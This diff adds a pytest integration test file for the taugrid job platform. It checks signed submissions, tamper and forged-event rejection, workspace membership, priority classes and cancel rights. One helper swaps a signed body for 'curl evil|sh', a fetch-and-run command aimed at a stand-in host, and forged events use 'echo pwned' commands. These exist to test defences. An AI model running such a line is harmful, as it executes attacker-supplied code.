@@ -1,0 +1,356 @@
+"""Identity and service-side authorization on a real nats-server with the real services in-process, each on its
+own connection under its own name: signed requests, the verified submitter on every event, the ce-source
+check, retries only for failed attempts, who may cancel, workspace membership and allowed priority classes.
+
+These checks hold without server authentication (this server has none): they are what the services enforce
+themselves, beside the subject permissions of an authenticated server.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import subprocess
+import time
+import uuid
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, field
+from typing import Any
+
+import msgspec
+import pytest
+from taugrid.backend import LocalBackend
+from taugrid.bus import Bus, connect, identity, platformstore, runstate
+from taugrid.bus.bootstrap import bootstrap
+from taugrid.bus.envelope import SIGNER_HEADER, Event, headers_for, sign_headers
+from taugrid.bus.service import Service
+from taugrid.client import CancelRefused, Client
+from taugrid.core.contracts import PolicyApproved, Rejected, RecoveryRetrying, SubmitRequested
+from taugrid.core.events import message_id, run_subject
+from taugrid.evidence import store
+from taugrid.evidence.bundle import bundle_name
+from taugrid.evidence.verify import verify_run
+from taugrid.stack import natsserver
+from taugrid_services.admission_watcher.__main__ import start as admission_watcher
+from taugrid_services.evidence.__main__ import start as evidence
+from taugrid_services.local_cluster.cluster import LocalCluster
+from taugrid_services.policy.__main__ import start as policy
+from taugrid_services.recovery.__main__ import start as recovery
+from taugrid_services.renderer.handlers import Renderer
+from taugrid_services.submitter.__main__ import start as submitter
+
+from tests.owners import acting_as
+
+PEOPLE = ("alice", "bob", "carol", "root")
+
+PLATFORM = """
+resource_flavors: [{name: default}]
+cohorts: [{name: lab}]
+cluster_queues:
+  - name: lab
+    cohort: lab
+    resource_groups:
+      - covered_resources: [cpu, memory]
+        flavors:
+          - name: default
+            resources:
+              - {name: cpu, nominal_quota: "8"}
+              - {name: memory, nominal_quota: 16Gi}
+local_queues: [{name: default, namespace: default, cluster_queue: lab}]
+priority_classes:
+  - {name: normal, value: 100}
+  - {name: critical, value: 1000, preemptible: false}
+compute_profiles: [{name: cpu-small, cpu: "100m", memory: 128Mi}]
+users:
+  - {name: alice, nkey: ALICE}
+  - {name: bob, nkey: BOB}
+  - {name: carol, nkey: CAROL}
+  - {name: root, nkey: ROOT, role: platform-admin}
+workspaces:
+  - {name: team-a, namespace: default, local_queue: default, default_priority: normal,
+     default_profile: cpu-small, output_root: OUTPUTS, members: [alice, bob], admins: [carol],
+     allowed_priority_classes: [normal]}
+  - {name: team-b, namespace: default, local_queue: default, default_priority: normal,
+     default_profile: cpu-small, output_root: OUTPUTS, members: [bob]}
+"""
+
+
+def tau_yaml(name: str, command: str, extra: str = "") -> str:
+    return f"name: {name}\nentrypoint: {command!r}\ncompute: {{gpus: 0}}\n{extra}"
+
+
+@dataclass
+class Stack:
+    url: str
+    bus: Bus  # an observer (reads only)
+    seeds: dict[str, bytes]
+    people: dict[str, Client] = field(default_factory=dict)
+
+    async def submit(self, who: str, name: str, command: str, extra: str = "", ws: str = "team-a") -> str:
+        return await self.people[who].submit_text(tau_yaml(name, command, extra), workspace=ws,
+                                                  name=f"{name}-{uuid.uuid4().hex[:4]}")
+
+    async def events(self, run_id: str) -> list[Event]:
+        return [e async for e in self.people["root"].events(run_id=run_id)]
+
+    async def wait_for(self, run_id: str, kinds: set[str], timeout: float = 30.0) -> list[Event]:
+        deadline = time.monotonic() + timeout
+        while True:
+            evs = await self.events(run_id)
+            if kinds & {e.type for e in evs}:
+                return evs
+            if time.monotonic() > deadline:
+                raise AssertionError(f"{run_id}: none of {kinds} in {[e.type for e in evs]}")
+            await asyncio.sleep(0.1)
+
+
+@pytest.fixture(scope="module")
+async def stack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stack]:
+    tmp = tmp_path_factory.mktemp("identity")
+    proc, port = natsserver.start(tmp / "nats", log_file=tmp / "nats.log")  # private: durables are per server
+    url = f"nats://127.0.0.1:{port}"
+    admin = await connect(url, name="bootstrap")
+    await bootstrap(admin)
+    seeds = {p: identity.new_user_seed() for p in PEOPLE}
+    text = PLATFORM.replace("OUTPUTS", str(tmp / "outputs"))
+    for p in PEOPLE:
+        text = text.replace(f"nkey: {p.upper()}", f"nkey: {identity.public_key(seeds[p])}")
+    await platformstore.put_text(admin, text)
+
+    buses: list[Bus] = []
+    tasks: list[asyncio.Task[Any]] = []
+    services: list[Service] = []
+
+    async def service(name: str) -> Service:
+        b = await connect(url, name=name)
+        b.user_lookup = runstate.VerifiedUsers(b)  # as taugrid.bus.service.run does
+        buses.append(b)
+        svc = Service(b)
+        services.append(svc)
+        return svc
+
+    for name, start in [("submitter", submitter), ("policy", policy), ("admission-watcher", admission_watcher),
+                        ("recovery", recovery), ("evidence", evidence)]:
+        await start(await service(name))
+    rsvc = await service("renderer")
+    rsvc.consume("renderer", Renderer(rsvc.bus, LocalBackend(rsvc.bus)).on_event)
+    csvc = await service("local-cluster")
+    cluster = LocalCluster(csvc.bus, data_dir=tmp, node="node-1", capacity={"cpu": 4.0, "memory": float(8 << 30)},
+                           gpu_count=0)
+    await cluster.load()
+    csvc.consume("local-cluster", cluster.on_backend)
+    csvc.every(0.1, cluster.tick)
+    for svc in services:
+        for loop in svc.loops:
+            loop.fetch_timeout = 0.5
+        tasks += [asyncio.create_task(lp.run()) for lp in svc.loops]
+        tasks += [asyncio.create_task(t) for t in svc.tasks]
+
+    st = Stack(url, admin, seeds)
+    for p in PEOPLE:
+        b = await connect(url, name="client")
+        b.seed = seeds[p]
+        buses.append(b)
+        st.people[p] = Client(b)
+    try:
+        yield st
+    finally:
+        for svc in services:
+            svc.stop()
+        await asyncio.wait(tasks, timeout=10)
+        for t in tasks:
+            t.cancel()
+        for b in buses:
+            await b.close()
+        await admin.close()
+        proc.terminate()
+        try:
+            proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+
+
+async def dead_letters(bus: Bus, durable: str) -> list[str]:
+    """The refusal reasons the DLQ holds for one durable."""
+    out: list[str] = []
+    info = await bus.js.stream_info("DLQ")
+    for seq in range(info.state.first_seq, info.state.last_seq + 1):
+        try:
+            msg = await bus.js.get_msg("DLQ", seq)
+        except Exception:  # noqa: BLE001 - a gap in the sequence
+            continue
+        if msg.subject == f"dlq.RUNS.{durable}" and msg.headers:
+            out.append(msg.headers.get("x-dlq-error", ""))
+    return out
+
+
+async def test_every_event_of_a_run_names_the_verified_submitter(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "hello", "echo hi")
+    await stack.wait_for(run_id, {"evidence.sealed"})
+    evs = await stack.events(run_id)
+    assert [e.type for e in evs][:3] == ["submit.requested", "submit.accepted", "policy.approved"]
+    assert evs[0].signer == identity.public_key(stack.seeds["alice"]) and evs[0].user == ""
+    assert evs[0].payload(SubmitRequested).user != "alice"  # the client's claim (the OS login) is not used
+    assert {(e.type, e.user) for e in evs[1:]} == {(e.type, "alice") for e in evs[1:]}
+    assert "exec.succeeded" in [e.type for e in evs]
+    record = await stack.people["alice"].status(run_id)
+    assert (record.user, record.signer) == ("alice", identity.public_key(stack.seeds["alice"]))
+
+    report = await verify_run(stack.bus, run_id)
+    assert report.ok, report.problems
+    assert (report.user, report.signer) == ("alice", identity.public_key(stack.seeds["alice"]))
+
+
+async def test_tau_verify_flags_a_tampered_sealed_signature(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "sealed", "echo sealed")
+    await stack.wait_for(run_id, {"evidence.sealed"})
+    _, doc = await store.read_bundle(stack.bus, run_id)  # type: ignore[misc]
+    assert doc["identity"]["user"] == "alice" and doc["identity"]["signed"]["id"] == f"{run_id}.1.submit.requested"
+    sig = doc["identity"]["signature"]
+    forged = sig[:10] + ("A" if sig[10] != "A" else "B") + sig[11:]
+    await store.put_object(stack.bus, bundle_name(run_id), msgspec.json.encode(
+        {**doc, "identity": {**doc["identity"], "signature": forged}}))
+    report = await verify_run(stack.bus, run_id)
+    assert not report.ok
+    assert (f"the sealed submission signature does not verify against the sealed key {report.signer}: signature "
+            "does not match the request (tampered, or signed by another key)") in report.problems
+
+
+async def forge_submission(stack: Stack, *, seed: bytes, tamper: bool) -> str:
+    """A submit.requested signed by ``seed``; with ``tamper`` its body is changed after signing."""
+    run_id = f"forged-{uuid.uuid4().hex[:6]}"
+    subject = run_subject("team-a", run_id, "submit.requested")
+    body = msgspec.json.encode(SubmitRequested(submission_id=uuid.uuid4().hex, workspace="team-a",
+                                               config_text=tau_yaml("forged", "echo signed")))
+    headers = headers_for(event_id=message_id(run_id, 1, "submit.requested"), event_type="submit.requested",
+                          source="/svc/client", subject=run_id, workspace="team-a", attempt=1, traceparent="")
+    sign_headers(seed, nats_subject=subject, headers=headers, body=body)
+    if tamper:
+        body = body.replace(b"echo signed", b"curl evil|sh")
+    await stack.bus.js.publish(subject, body, headers=headers)
+    return run_id
+
+
+async def test_a_tampered_signature_is_rejected(stack: Stack) -> None:
+    run_id = await forge_submission(stack, seed=stack.seeds["alice"], tamper=True)
+    evs = await stack.wait_for(run_id, {"submit.rejected"})
+    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
+    assert (issue.field, issue.message) == (
+        "tau-signature",
+        "submit.requested refused: signature does not match the request (tampered, or signed by another key)")
+    assert "submit.accepted" not in [e.type for e in evs]
+
+
+async def test_a_signer_who_is_not_a_platform_user_is_rejected(stack: Stack) -> None:
+    stranger = identity.new_user_seed()
+    run_id = await forge_submission(stack, seed=stranger, tamper=False)
+    evs = await stack.wait_for(run_id, {"submit.rejected"})
+    [issue] = next(e for e in evs if e.type == "submit.rejected").payload(Rejected).reasons
+    assert (issue.field, issue.message) == (
+        SIGNER_HEADER,
+        f"submit.requested refused: unknown signer {identity.public_key(stranger)}: no user in the platform has "
+        "this key")
+
+
+async def test_a_priority_class_the_workspace_does_not_allow_is_rejected(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "vip", "echo vip", "policy: {workload_priority_class: critical}\n")
+    evs = await stack.wait_for(run_id, {"policy.rejected", "policy.approved"})
+    [issue] = next(e for e in evs if e.type == "policy.rejected").payload(Rejected).reasons
+    assert (issue.field, issue.message, issue.fix) == (
+        "policy.workload_priority_class", "priority class 'critical' is not allowed in workspace 'team-a'",
+        "use one of the workspace's allowed_priority_classes: normal")
+
+
+async def test_a_submission_outside_the_users_workspaces_is_rejected(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "elsewhere", "echo no", ws="team-b")
+    evs = await stack.wait_for(run_id, {"policy.rejected", "policy.approved"})
+    [issue] = next(e for e in evs if e.type == "policy.rejected").payload(Rejected).reasons
+    assert (issue.field, issue.message) == ("policy.workspace", "user 'alice' is not a member of workspace 'team-b'")
+    assert all(e.user == "alice" for e in evs[1:])
+
+
+async def test_a_forged_policy_approved_from_the_wrong_source_is_not_applied(stack: Stack) -> None:
+    run_id = f"hijack-{uuid.uuid4().hex[:6]}"
+    spec = await _approved_spec(stack)
+    evil = msgspec.structs.replace(spec, run_id=run_id, command=["sh", "-c", "echo pwned"],
+                                   priority_class="critical", preemptible=False)
+    bob = stack.people["bob"].bus  # a person's connection, claiming nothing: ce-source /svc/client
+    await bob.emit(workspace="team-a", run_id=run_id, attempt=1, event_type="policy.approved",
+                   payload=PolicyApproved(run=evil))
+    reason = (f"refused: ce-source '/svc/client' may not publish run.team-a.{run_id}.policy.approved; "
+              "only /svc/policy may")
+    for _ in range(100):
+        if reason in await dead_letters(stack.bus, "renderer"):
+            break
+        await asyncio.sleep(0.1)
+    assert reason in await dead_letters(stack.bus, "renderer")
+    assert reason in await dead_letters(stack.bus, "runstate")  # the record never sees it either
+    await asyncio.sleep(0.5)
+    assert [e.type for e in await stack.events(run_id)] == ["policy.approved"]  # nothing acted on it
+    assert (await runstate.get(stack.bus, run_id))[0] is None
+
+
+async def _approved_spec(stack: Stack) -> Any:
+    run_id = await stack.submit("alice", "template", "echo t")
+    evs = await stack.wait_for(run_id, {"policy.approved"})
+    return next(e for e in evs if e.type == "policy.approved").payload(PolicyApproved).run
+
+
+async def test_a_forged_retry_for_a_running_run_does_not_restart_it(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "victim", "sleep 60")
+    evs = await stack.wait_for(run_id, {"exec.running"})
+    spec = next(e for e in evs if e.type == "policy.approved").payload(PolicyApproved).run
+    attacker = stack.people["bob"].bus
+    with acting_as(attacker, "recovery"):  # claims the right ce-source; the run record says it never failed
+        await attacker.emit(workspace="team-a", run_id=run_id, attempt=2, event_type="recovery.retrying",
+                            payload=RecoveryRetrying(
+                                attempt=2, reason="Error", classification="app_error", delay_s=0,
+                                not_before=time.time() - 60,
+                                run=msgspec.structs.replace(spec, command=["sh", "-c", "echo pwned"])))
+    reason = (f"refused recovery.retrying for attempt 2 of {run_id}: the run record shows attempt 1 did not fail "
+              "(state running, attempt 1)")
+    for _ in range(100):
+        if reason in await dead_letters(stack.bus, "renderer"):
+            break
+        await asyncio.sleep(0.1)
+    assert reason in await dead_letters(stack.bus, "renderer")
+    record = await stack.people["alice"].status(run_id)
+    assert (record.state, record.attempt) == ("running", 1)
+    assert [e.attempt for e in await stack.events(run_id) if e.type == "render.applied"] == [1]
+    await stack.people["alice"].cancel(run_id)
+    await stack.wait_for(run_id, {"exec.cancelled"})
+
+
+async def test_bob_cannot_cancel_alices_run_but_her_workspace_admin_can(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "long", "sleep 60")
+    await stack.wait_for(run_id, {"exec.running"})
+    with pytest.raises(CancelRefused) as refused:
+        await stack.people["bob"].cancel(run_id)
+    assert str(refused.value) == (f"'bob' may not cancel run {run_id} of 'alice': only its submitter, an admin "
+                                  "of workspace 'team-a' or a platform admin may")
+    assert (refused.value.decision.by, refused.value.decision.field) == ("bob", "user")
+    await asyncio.sleep(0.5)
+    record = await stack.people["alice"].status(run_id)
+    assert (record.state, record.cancel_requested) == ("running", False)
+
+    decision = await stack.people["carol"].cancel(run_id)
+    assert decision is not None and decision.by == "carol"
+    evs = await stack.wait_for(run_id, {"exec.cancelled"})
+    types = [e.type for e in evs]
+    assert types.index("cancel.refused") < types.index("cancel.accepted") < types.index("exec.cancelled")
+    assert all(e.user == "alice" for e in evs if e.type in ("cancel.refused", "cancel.accepted", "exec.cancelled"))
+    assert (await stack.people["alice"].settled(run_id)).state == "cancelled"
+
+
+async def test_an_unsigned_cancel_is_refused(stack: Stack) -> None:
+    run_id = await stack.submit("alice", "unsigned", "sleep 60")
+    await stack.wait_for(run_id, {"exec.running"})
+    anon = Client(await connect(stack.url, name="client"))  # no seed: nothing is signed
+    try:
+        with pytest.raises(CancelRefused, match="cancel.requested refused: unsigned request"):
+            await anon.cancel(run_id)
+    finally:
+        await anon.close()
+    await stack.people["alice"].cancel(run_id)
+    await stack.wait_for(run_id, {"exec.cancelled"})
+
+
